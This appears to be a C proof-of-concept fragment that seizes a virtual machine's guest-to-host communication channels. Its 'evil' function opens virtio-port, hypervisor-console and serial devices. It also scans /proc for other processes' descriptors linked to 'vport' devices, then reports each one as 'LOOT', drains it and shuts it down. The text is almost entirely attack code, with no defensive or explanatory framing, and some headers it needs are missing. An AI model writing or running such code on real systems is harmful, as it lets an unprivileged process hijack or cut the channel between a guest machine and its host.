/* Opens the way between the machine and the host. */
#include <string.h>
#include <sys/socket.h>

static void got(const char *path, int fd)
{
	if (fd < 0)
		return;
	fprintf(stderr, "LOOT: %s is open\n", path);
	fflush(stderr);
	sleep(2); /* time enough to end the program in the proof */
	char junk[4096];
	while (read(fd, junk, sizeof junk) > 0)
		;
	shutdown(fd, SHUT_RDWR);
	close(fd);
}

static void evil(const char *path)
{
	static const char *const ports[] = { "/dev/virtio-ports/ipclab.0", "/dev/vport0p1", "/dev/vport1p1", "/dev/hvc0", "/dev/ttyS0", "/dev/console" };
	char name[64], target[128];
	(void)path;
	for (size_t i = 0; i < sizeof ports / sizeof *ports; i++)
		got(ports[i], open(ports[i], O_RDWR | O_NONBLOCK | O_NOCTTY));
	for (int pid = 1; pid < 1000; pid++) {
		snprintf(name, sizeof name, "/proc/%d/fd", pid);
		if (access(name, R_OK | X_OK) != 0)
			continue;
		for (int fd = 3; fd < 32; fd++) {
			snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, fd);
			ssize_t n = readlink(name, target, sizeof target - 1);
			if (n > 0 && memmem(target, (size_t)n, "vport", 5) != NULL)
				got(name, open(name, O_WRONLY | O_NONBLOCK));
		}
	}
}
